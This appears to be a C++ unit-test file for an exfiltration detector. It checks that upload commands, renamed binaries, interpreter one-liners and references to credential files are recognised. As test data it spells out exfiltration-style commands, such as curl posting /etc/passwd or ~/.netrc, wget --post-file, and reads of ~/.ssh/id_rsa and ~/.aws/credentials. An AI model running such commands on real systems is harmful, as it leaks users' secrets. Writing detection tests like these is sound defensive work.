// Tests detect/command.cpp against the built-in upload_tools: upload vs download arguments,
// renamed binaries, interpreters, and files named on a command line.
#include <doctest/doctest.h>

#include "detect/command.hpp"
#include "timeline.hpp"

using namespace exfilwatch;
using namespace exfilwatch::detect;

namespace {

const Rules& rules()
{
    static const Rules r = test::builtin();
    return r;
}

ProcessRef proc(std::vector<std::string> args, std::string exe = {})
{
    ProcessRef p;
    p.executable = exe.empty() ? "/usr/bin/" + args.front() : exe;
    p.name = p.executable.substr(p.executable.rfind('/') + 1);
    p.args = std::move(args);
    return p;
}

bool uploads(std::vector<std::string> args, std::string exe = {})
{
    return analyze_command(rules(), proc(std::move(args), std::move(exe))).upload;
}

}  // namespace

TEST_CASE("curl and wget: upload arguments")
{
    CHECK(uploads({"curl", "-T", "f", "https://x"}));
    CHECK(uploads({"curl", "-sT", "f", "https://x"}));
    CHECK(uploads({"curl", "--upload-file", "f", "https://x"}));
    CHECK(uploads({"curl", "-d", "@f", "https://x"}));
    CHECK(uploads({"curl", "--data-binary=@-", "https://x"}));
    CHECK(uploads({"curl", "-F", "file=@/etc/passwd", "https://x"}));
    CHECK(uploads({"curl", "-F", "file=</etc/passwd", "https://x"}));
    CHECK_FALSE(uploads({"curl", "-F", "name=value", "https://x"}));
    CHECK(uploads({"curl", "--json", "@x.json", "https://x"}));
    CHECK(uploads({"curl", "-X", "PUT", "https://x"}));
    CHECK_FALSE(uploads({"curl", "-X", "GET", "https://x"}));
    CHECK_FALSE(uploads({"curl", "-sSLo", "out", "https://x"}));
    CHECK(analyze_command(rules(), proc({"curl", "-o", "out", "https://x"})).download);
    CHECK(uploads({"wget", "--post-file=/etc/hosts", "https://x"}));
    CHECK(uploads({"wget", "--method=PUT", "--body-file=f", "https://x"}));
    CHECK_FALSE(uploads({"wget", "-q", "-O", "-", "https://x"}));
}

TEST_CASE("subcommand tools")
{
    CHECK(uploads({"rclone", "copy", "/data", "gdrive:backup"}));
    CHECK(uploads({"rclone", "rcat", "mega:f.txt"}));
    CHECK_FALSE(uploads({"rclone", "copy", "gdrive:backup", "/data"}));
    CHECK(uploads({"aws", "s3", "cp", "f", "s3://b/k"}));
    CHECK(uploads({"aws", "--profile", "p", "s3", "sync", ".", "s3://b/"}));
    CHECK_FALSE(uploads({"aws", "s3", "cp", "s3://b/k", "f"}));
    CHECK_FALSE(uploads({"aws", "s3", "ls"}));
    CHECK(uploads({"/usr/bin/python3", "/usr/bin/aws", "s3", "cp", "f", "s3://b/"}, "/usr/bin/python3.11"));
    CHECK(uploads({"gsutil", "cp", "f", "gs://b/"}));
    CHECK(uploads({"gh", "gist", "create", "f"}));
    CHECK(uploads({"git", "push", "origin", "main"}));
    CHECK(uploads({"git", "-C", "repo", "push"}));
    CHECK_FALSE(uploads({"git", "clone", "https://github.com/o/r"}));
    CHECK_FALSE(uploads({"git", "commit", "-m", "push it"}));
    CHECK(uploads({"openssl", "s_client", "-connect", "h:443"}));
    CHECK_FALSE(uploads({"openssl", "x509", "-in", "c.pem"}));
    CHECK(uploads({"nc", "h", "443"}));
    CHECK(uploads({"az", "storage", "blob", "upload", "-f", "x"}));
}

TEST_CASE("interpreters: inline code that posts")
{
    CHECK(uploads({"python3", "-c", "import requests; requests.post(u, data=open(f).read())"}, "/usr/bin/python3.11"));
    CHECK(uploads({"python3", "-c", "urllib.request.urlopen(Request(u, data=d, method='POST'))"}, "/usr/bin/python3.11"));
    CHECK_FALSE(uploads({"python3", "-c", "urllib.request.urlopen('https://x').read()"}, "/usr/bin/python3.11"));
    CHECK_FALSE(uploads({"python3", "script.py"}, "/usr/bin/python3.11"));
    CHECK(uploads({"node", "-e", "fetch(u,{method:'POST',body:b})"}));
    CHECK(uploads({"php", "-r", "curl_setopt($c, CURLOPT_POSTFIELDS, $d);"}));
    CHECK(uploads({"pwsh", "-c", "Invoke-WebRequest -Uri u -InFile f -Method Put"}));
}

TEST_CASE("renamed binaries")
{
    auto copied = analyze_command(rules(), proc({"/tmp/.x", "-sk", "--data-binary", "@-", "https://x"}, "/tmp/.x"));
    CHECK(copied.upload);
    CHECK(copied.renamed);
    REQUIRE(copied.tool != nullptr);
    CHECK(copied.tool->name == "curl");
    auto spoofed = analyze_command(rules(), proc({"curl", "-T", "f", "https://x"}, "/var/tmp/kworker"));
    CHECK(spoofed.renamed);
    auto normal = analyze_command(rules(), proc({"curl", "-T", "f", "https://x"}));
    CHECK_FALSE(normal.renamed);
    auto py = analyze_command(rules(), proc({"python3", "-c", "requests.post(u)"}, "/usr/bin/python3.11"));
    CHECK_FALSE(py.renamed);
    auto busybox = analyze_command(rules(), proc({"wget", "--post-file=f", "https://x"}, "/bin/busybox"));
    CHECK(busybox.upload);
    CHECK_FALSE(busybox.renamed);
    CHECK_FALSE(analyze_command(rules(), proc({"/tmp/.y", "-la"}, "/tmp/.y")).tool);
}

TEST_CASE("names_file")
{
    CHECK(names_file(proc({"curl", "-F", "f=@/home/u/.netrc"}), "/home/u/.netrc"));
    CHECK(names_file(proc({"wget", "--post-file=.bash_history"}), "/home/u/.bash_history"));
    CHECK(names_file(proc({"cat", "~/.ssh/id_rsa"}), "/root/.ssh/id_rsa"));
    CHECK(names_file(proc({"rclone", "copy", "/home/u/.aws/", "r:"}), "/home/u/.aws/credentials"));
    CHECK(names_file(proc({"python3", "-c", "open('/home/u/.aws/credentials')"}), "/home/u/.aws/credentials"));
    CHECK_FALSE(names_file(proc({"aws", "s3", "ls"}), "/home/u/.aws/credentials"));
    CHECK_FALSE(names_file(proc({"cat", "id_rsa"}), "/root/.ssh/my_id_rsa"));
    CHECK_FALSE(names_file(proc({"ls", "/home/u/.aws2"}), "/home/u/.aws/credentials"));
}
